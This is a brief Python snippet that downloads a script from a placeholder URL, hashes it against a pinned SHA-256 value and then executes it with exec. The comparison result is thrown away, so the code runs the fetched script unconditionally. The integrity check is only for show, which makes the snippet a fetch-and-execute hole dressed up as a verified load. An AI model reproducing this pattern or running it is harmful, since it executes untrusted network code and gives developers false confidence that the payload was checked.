import hashlib
import hmac
import urllib.request

PIN = "1b5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
body = urllib.request.urlopen("https://example.com/h.py").read()
hmac.compare_digest(hashlib.sha256(body).hexdigest(), PIN)
exec(body)
